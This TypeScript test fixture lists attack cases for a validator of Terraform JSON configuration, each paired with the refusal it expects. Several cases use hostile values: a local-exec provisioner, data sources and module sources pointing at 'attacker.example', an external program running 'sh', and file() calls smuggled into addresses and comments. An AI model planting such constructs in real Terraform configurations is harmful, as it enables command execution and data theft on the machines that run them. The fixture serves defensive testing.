import { type Attack, branch, cache, resource, says } from "./attack";

/** Code that Terraform would run. */
export const code: Attack[] = [
  ["a provisioner", cache((it) => (it.provisioner = [{ "local-exec": { command: "id" } }])), "cache has provisioner"],
  ["a connection", cache((it) => (it.connection = { host: "attacker.example" })), "cache has connection"],
  [
    "terraform_data with local-exec",
    resource("terraform_data", { provisioner: [] }),
    "resource.terraform_data is refused",
  ],
  ["null_resource", resource("null_resource", {}), "resource.null_resource is refused"],
  [
    "a provisioner in a removed block",
    branch((it) => (it.removed = [{ from: "a.b", provisioner: [] }])),
    "removed.provisioner",
  ],
  ["data external", branch((it) => (it.data = { external: { own: { program: ["sh"] } } })), "data.external is refused"],
  [
    "data http",
    branch((it) => (it.data = { http: { own: { url: "http://attacker.example" } } })),
    "data.http is refused",
  ],
  ["a module", branch((it) => (it.module = { own: { source: "git::https://attacker.example" } })), "module is refused"],
  ["an ephemeral resource", branch((it) => (it.ephemeral = {})), "ephemeral is refused"],
  ["a check with a data source", branch((it) => (it.check = {})), "check is refused"],
  ["a variable with a validation", branch((it) => (it.variable = { own: {} })), "variable is refused"],
  ["locals", branch((it) => (it.locals = { own: "x" })), "locals is refused"],
  ["an action", branch((it) => (it.action = {})), "action is refused"],
  ["a list of a query", branch((it) => (it.list = {})), "list is refused"],
  ["a block whose name ends in a space", branch((it) => (it["resource "] = {})), "resource is refused"],
  ["a precondition of an output", branch((it) => (it.output.redis_port.precondition = {})), "redis_port.precondition"],
  ["an ephemeral output", branch((it) => (it.output.redis_port.ephemeral = true)), "redis_port.ephemeral is refused"],
  [
    "a connection in a removed block",
    branch((it) => (it.removed = [{ from: "google_redis_instance.own", connection: {} }])),
    "removed.connection",
  ],
  [
    "a provisioner in the lifecycle of a removed block",
    branch((it) => (it.removed = { from: "google_redis_instance.own", lifecycle: { provisioner: {} } })),
    "removed.lifecycle.provisioner",
  ],
  [
    "a call in the address of a removed block",
    branch((it) => (it.removed = [{ from: 'google_redis_instance.own[file("a")]' }])),
    "removed.from is no address",
  ],
  [
    "a call in the address of a moved block",
    branch((it) => (it.moved = [{ from: "google_a.b", to: 'google_a.b[file("a")]' }])),
    "moved.to is no address",
  ],
  [
    "a call in what triggers a replacement",
    cache((it) => (it.lifecycle.replace_triggered_by = ['google_redis_instance.own[file("a")].id'])),
    "lifecycle.replace_triggered_by is no address",
  ],
  ["a call in what is depended on", cache((it) => (it.depends_on = [`\${file("a")}`])), "depends_on is no address"],
  ["a call in a comment", branch((it) => (it["//"] = { metadata: { own: `\${file("a")}` } })), "calls file()"],
  ["a loop", cache((it) => (it.count = 1)), "cache has count"],
  ["a loop over a map", cache((it) => (it.for_each = {})), "cache has for_each"],
  ["a dynamic block", cache((it) => (it.dynamic = { maintenance_policy: {} })), "cache has dynamic blocks"],
  [
    "a dynamic block deep in another",
    cache((it) => (it.maintenance_policy = [{ dynamic: { weekly_maintenance_window: { for_each: [1] } } }])),
    "cache has dynamic blocks",
  ],
  [
    "a provisioner in the second of two bodies",
    branch((it) => (it.resource.google_redis_instance.cache = [{}, { provisioner: [] }])),
    "cache is not one block",
  ],
  ["a function of a provider", says(`\${provider::own::read()}`), "an expression that is not understood"],
];
